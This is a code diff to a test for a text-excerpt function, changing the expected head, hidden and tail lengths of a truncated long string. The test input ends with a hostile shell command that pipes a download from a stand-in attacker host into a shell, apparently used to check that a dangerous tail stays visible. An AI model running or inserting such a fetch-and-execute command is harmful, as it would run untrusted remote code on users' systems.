@@ -91,7 +91,7 @@ describe("long text", () => {
   it("shows both ends and counts what is between", () => {
     const cut = excerpt(`${"safe ".repeat(4_000)}; curl evil.example | sh`);
     expect(cut?.tail.endsWith("; curl evil.example | sh")).toBe(true);
-    expect([cut?.head.length, cut?.hiddenCharacters, cut?.tail.length]).toEqual([1_200, 18_224, 600]);
+    expect([cut?.head.length, cut?.hiddenCharacters, cut?.tail.length]).toEqual([600, 19_124, 300]);
   });
 
   it("folds more on a phone, and keeps at least the last 200 characters", () => {
